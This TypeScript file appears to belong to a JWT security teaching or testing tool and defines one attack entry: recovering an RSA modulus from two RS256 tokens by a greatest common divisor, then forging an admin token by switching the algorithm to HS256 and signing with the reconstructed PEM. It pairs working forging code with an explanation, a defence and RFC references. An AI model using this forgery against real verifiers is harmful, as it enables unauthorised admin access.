import { sha256 } from '@noble/hashes/sha2.js';
import { decodeBase64url, encodeBase64url } from '../../jwt/base64url.ts';
import { rfc } from '../../jwt/clause.ts';
import { encodeUtf8 } from '../../jwt/utf8.ts';
import { spkiPem } from '../../service/pem.ts';
import { toBytes, toNumber } from '../../service/tokens/ecdsa.ts';
import { inputOf, withClaims, withHeader } from '../../service/tokens/parts.ts';
import { signWithText } from '../../service/tokens/sign.ts';
import type { Attack } from '../attack.ts';

/** DER of the DigestInfo that stands before a SHA-256 (RFC 8017 §9.2, note 1). */
const DIGEST_INFO = '3031300d060960864801650304020105000420';

/** What RS256 signs, as a number: 00 01 FF … FF 00, the DigestInfo, the hash (RFC 8017 §9.2). */
const encodedMessage = (token: string, length: number): bigint => {
  const hash = toNumber(sha256(encodeUtf8(inputOf(token))))
    .toString(16)
    .padStart(64, '0');
  const end = `00${DIGEST_INFO}${hash}`;
  return BigInt(`0x0001${'ff'.repeat(length - 2 - end.length / 2)}${end}`);
};

/** signature³ − message: a multiple of the modulus, whatever the modulus is. */
const multipleOfModulus = (token: string): bigint => {
  const { bytes } = decodeBase64url(token.slice(token.lastIndexOf('.') + 1));
  return toNumber(bytes) ** 3n - encodedMessage(token, bytes.length);
};

const greatestCommonDivisor = (one: bigint, other: bigint): bigint => {
  let [a, b] = [one, other];
  while (b !== 0n) [a, b] = [b, a % b];
  return a;
};

/**
 * The modulus that two tokens were signed under, of 2048 bits as their signatures tell. A factor that both share
 * by chance makes the divisor longer than that, and is divided out.
 */
const modulusOf = (one: string, other: string): bigint => {
  let modulus = greatestCommonDivisor(multipleOfModulus(one), multipleOfModulus(other));
  for (let factor = 2n; modulus >> 2048n > 0n; factor += 1n)
    while (modulus % factor === 0n) modulus /= factor;
  return modulus;
};

export const rsHsRecoveredKey: Attack = {
  id: 'rs-hs-recovered-key',
  name: 'RS256 to HS256 with a key nobody published',
  group: 'algorithm',
  setting: 'rs256-exponent-3',
  precondition:
    'The verifier lets the header choose the algorithm and hands every algorithm the same key text. The RSA exponent is small.',
  needs: ['several-tokens'],
  goal: 'u-9 is let in as admin; the modulus that was kept secret was computed from two tokens.',
  forge: async ({ honest, knows }) => {
    const modulus = modulusOf(honest, knows.tokens['earlier'] ?? honest);
    const pem = await spkiPem({ kty: 'RSA', n: encodeBase64url(toBytes(modulus, 256)), e: 'Aw' });
    const claimed = withClaims(honest, { role: 'admin' });
    const renamed = withHeader(claimed, { alg: 'HS256' });
    return {
      moves: [
        { say: 'Change one claim: role becomes admin.', token: claimed },
        { say: 'Set alg to HS256.', token: renamed },
        {
          say: 'From two tokens, compute the modulus as a greatest common divisor. Sign by HMAC with the PEM of that key.',
          token: signWithText(renamed, pem),
        },
      ],
    };
  },
  explanation: [
    'Checking an RSA signature s of a message m means that s to the power e leaves m when divided by the modulus n. So sᵉ − m is a multiple of n, and anybody with a token can compute it.',
    'Two tokens give two multiples. Their greatest common divisor is n, or n times a small number that is divided out. With e = 3 that takes milliseconds in a page; with the usual 65537 the numbers have 134 million bits, which is work for a bigger computer and not a secret.',
    'From n the PEM can be written as the configuration holds it, and the rest is the confusion with a published key.',
  ],
  defence:
    'Bind each key to one algorithm. A public key may be hidden for other reasons; verifying must be safe when it is known.',
  bcp: ['2.1', '3.1'],
  clauses: [rfc(8017, '5.2.2'), rfc(8017, '9.2')],
  cves: [],
  sound: {
    pinned: {
      outcome: 'refuse',
      at: 'alg',
      because: 'The configured algorithm is RS256, and HS256 is not it.',
    },
    strict: {
      outcome: 'refuse',
      at: 'alg',
      because: 'The configured algorithm is RS256, and HS256 is not it.',
    },
  },
};
